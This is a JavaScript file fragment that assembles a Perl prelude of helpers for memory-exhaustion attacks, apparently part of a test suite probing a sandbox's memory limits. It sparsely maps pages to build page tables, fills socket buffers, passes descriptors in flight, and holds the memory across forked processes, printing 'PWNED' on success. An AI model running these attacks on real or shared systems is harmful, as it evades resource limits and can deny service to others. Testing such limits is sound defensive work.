const CALLS =
  process.arch === "x64"
    ? { MMAP: 9, MADVISE: 28, VMSPLICE: 278, SENDFILE: 40, SENDMSG: 46, EPOLL_CREATE1: 291, EPOLL_CTL: 233 }
    : { MMAP: 222, MADVISE: 233, VMSPLICE: 75, SENDFILE: 71, SENDMSG: 211, EPOLL_CREATE1: 20, EPOLL_CTL: 21 };
/** What all of these attacks are written in: system calls by number, and addresses that are looked at. */
const PRELUDE = `
use strict; use warnings; no warnings "once"; use Socket; use IO::Handle;
${Object.entries(CALLS).map(([name, number]) => `use constant ${name} => ${number};`).join(" ")}
$SIG{ALRM} = sub { exit }; alarm 25; $SIG{PIPE} = "IGNORE"; our @kept;
sub keep { push @kept, @_ }
sub look { my ($at) = @_; my ($byte) = unpack "P1", pack "J", $at; return $byte }
sub poke { my ($at) = @_; open(my $null, "<", "/dev/full"); syscall(0, fileno($null), $at, 1) }
# Each of so many pages of tables takes 2 MiB of addresses.
sub sparse { my ($mib) = @_; my $n = int $mib * 256; my $a = syscall(MMAP, 0, ($n + 1) << 21, 1, 0x4022, -1, 0);
  die "mmap: $!" if $a == -1; look($a + ($_ << 21)) for 1 .. $n; return $mib }
# Write until it is full, or so many MB: how many bytes were taken.
sub fill { my ($s, $most) = @_; $s->blocking(0); setsockopt($s, SOL_SOCKET, SO_SNDBUF, pack("i", 1 << 30)); my $x = "x" x 65536; my $n = 0;
  while (my $done = syswrite $s, $x) { $n += $done; last if $most && $n > $most << 20 } return $n }
sub listener { socket(my $l, AF_INET, SOCK_STREAM, 0) or die "socket: $!"; setsockopt($l, SOL_SOCKET, SO_RCVBUF, pack("i", 1 << 30));
  bind($l, sockaddr_in(0, INADDR_LOOPBACK)) or die "bind: $!"; listen($l, 4000) or die "listen: $!"; return $l }
sub connected { my ($l) = @_; socket(my $s, AF_INET, SOCK_STREAM, 0) or die "socket: $!"; connect($s, getsockname $l) or die "connect: $!"; return $s }
sub send_descriptor { my ($over, $sent) = @_; my $byte = "x"; my $vec = pack "PJ", $byte, 1; my $control = pack "Jiiix4", 20, 1, 1, fileno $sent;
  my $message = pack "JLx4PJPJi", 0, 0, $vec, 1, $control, 24, 0; return syscall(SENDMSG, fileno $over, $message, 0x40) == 1 }
# Let so many processes take a share each, and keep it for as long as whoever looks twice a second needs to see it.
sub hold { my ($processes, $work, $mib) = @_; pipe(my $r, my $w);
  my @children; for (1 .. $processes) { my $pid = fork; if ($pid) { push @children, $pid; next } close $r; my $got = eval { $work->($mib / $processes) }; syswrite $w, defined $got ? "$got\\n" : "0 $@";
    sleep 20; exit }
  close $w; my ($sum, $why) = (0, ""); for (1 .. $processes) { my $line = <$r>; last unless defined $line; $sum += $line; $why = $line if $line =~ /[a-z]/ }
  if ($sum >= $mib * 0.95) { sleep 2; print "PWNED, " } kill "KILL", @children; printf "%d MiB %s", $sum, $why }
`;
/** What a program says that takes memory, and keeps it for two seconds. */
const held = (program, seconds = 9) =>
  execFileSync("perl", ["-e", PRELUDE + program], { encoding: "utf8", timeout: seconds * 1000, killSignal: "SIGKILL" });
